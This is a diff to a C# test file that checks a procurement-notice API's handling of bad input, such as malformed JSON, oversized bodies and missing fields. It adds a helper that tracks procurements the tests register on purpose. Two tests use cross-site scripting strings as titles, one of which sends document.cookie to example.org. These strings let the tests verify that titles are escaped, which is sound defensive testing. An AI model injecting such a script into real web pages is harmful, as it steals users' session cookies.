@@ -10,6 +10,7 @@ namespace NoticeFunctions.Tests;
 /// <summary>Each way a request can be wrong gets a clear 4xx naming what to fix, and changes nothing.</summary>
 public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>, IAsyncLifetime
 {
+    private readonly HashSet<string> _registered = new(StringComparer.Ordinal);
     private TestApp _app = null!;
     private Support.WebClient _commissioner = null!;
 
@@ -94,7 +95,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     public async Task Register_ScriptInTitle_IsKeptAsTextAndServedEscapedAsJson()
     {
         const string title = "<script>alert('x')</script>";
-        var id = await ApiJourney.RegisterAsync(_commissioner, title);
+        var id = await RegisterAsync(_commissioner, title);
 
         using var response = await _commissioner.GetAsync($"/api/procurements/{id}");
         var raw = await response.Content.ReadAsStringAsync();
@@ -121,7 +122,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Draft_MalformedJson_Is400AndTheProcurementIsUnchanged()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
 
         using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK4","content":{"title": }""");
@@ -133,7 +134,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Draft_PlainTextBody_Is415AndTheProcurementIsUnchanged()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
 
         using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", ApiJourney.DraftBody(NoticeType.UK4), "text/plain");
@@ -146,7 +147,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Draft_OversizedBody_Is413AndTheProcurementIsUnchanged()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
         var huge = "{\"type\":\"UK4\",\"content\":{\"title\":\"" + new string('x', 400 * 1024) + "\"}}";
 
@@ -159,7 +160,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Draft_UnknownNoticeType_Is400NamingTheType()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
 
         using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK99","content":{}}""");
@@ -172,7 +173,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Submit_NoticeMissingItsTitle_Is422NamingTheFieldAndStaysADraft()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = null });
         var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
         var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
@@ -188,7 +189,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Submit_SparseNotice_Is422NamingMissingFieldsAndStaysADraft()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", """{"type":"UK4","content":{"noticeType":"UK4","title":"Cleaning","buyer":{"name":"Westshire County Council","address":{"locality":"Westbury"}}}}""");
         var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
         var before = await TimelineAsync(id);
@@ -203,7 +204,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     [Fact]
     public async Task Award_MissingAndImpossibleValues_Is400NamingEachField()
     {
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
 
         using var missing = await _commissioner.PostJsonAsync($"/api/procurements/{id}/award", """{"suppliers":[{"name":"Green Bins Limited"}]}""");
@@ -224,7 +225,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     public async Task Approval_UnknownNotice_IsRefusedNamingTheNoticeAndChangesNothing()
     {
         using var approver = await _app.SignInAsync("grace.hopper");
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var before = await TimelineAsync(id);
 
         using var response = await ApiJourney.ApproveAsync(approver, id, "uk4-9");
@@ -238,7 +239,7 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
     public async Task Draft_ScriptInANoticeTitle_IsKeptAsTextAndServedEscaped()
     {
         const string title = "Bins <script>document.location='https://example.org/'+document.cookie</script>";
-        var id = await ApiJourney.RegisterAsync(_commissioner);
+        var id = await RegisterAsync(_commissioner);
         var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = title });
         var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
         var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
@@ -271,11 +272,20 @@ public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<Azu
 
     private Task<string> TimelineAsync(string id) => _commissioner.GetPageAsync($"/api/procurements/{id}/timeline");
 
+    /// <summary>Registers a procurement on purpose, remembering it, so that only others count as registered by mistake.</summary>
+    private async Task<string> RegisterAsync(Support.WebClient commissioner, string title = "Waste collection services")
+    {
+        var id = await ApiJourney.RegisterAsync(commissioner, title);
+        _registered.Add(id);
+        return id;
+    }
+
+    /// <summary>The authority's list (the one buyer this deployment keeps) holds only what the tests registered on purpose.</summary>
     private async Task AssertNothingRegisteredAsync()
     {
-        var list = await _commissioner.GetPageAsync($"/api/procurements?buyerId=GB-PPON-X");
+        var list = await _commissioner.GetPageAsync($"/api/procurements?buyerId={ApiJourney.BuyerId}");
         using var page = JsonDocument.Parse(list);
-        Assert.Equal(0, page.RootElement.GetProperty("items").GetArrayLength());
+        Assert.All(page.RootElement.GetProperty("items").EnumerateArray(), p => Assert.Contains(p.GetProperty("procurementId").GetString()!, _registered));
     }
 
     private static async Task<JsonElement> AssertProblemAsync(HttpResponseMessage response, HttpStatusCode status)
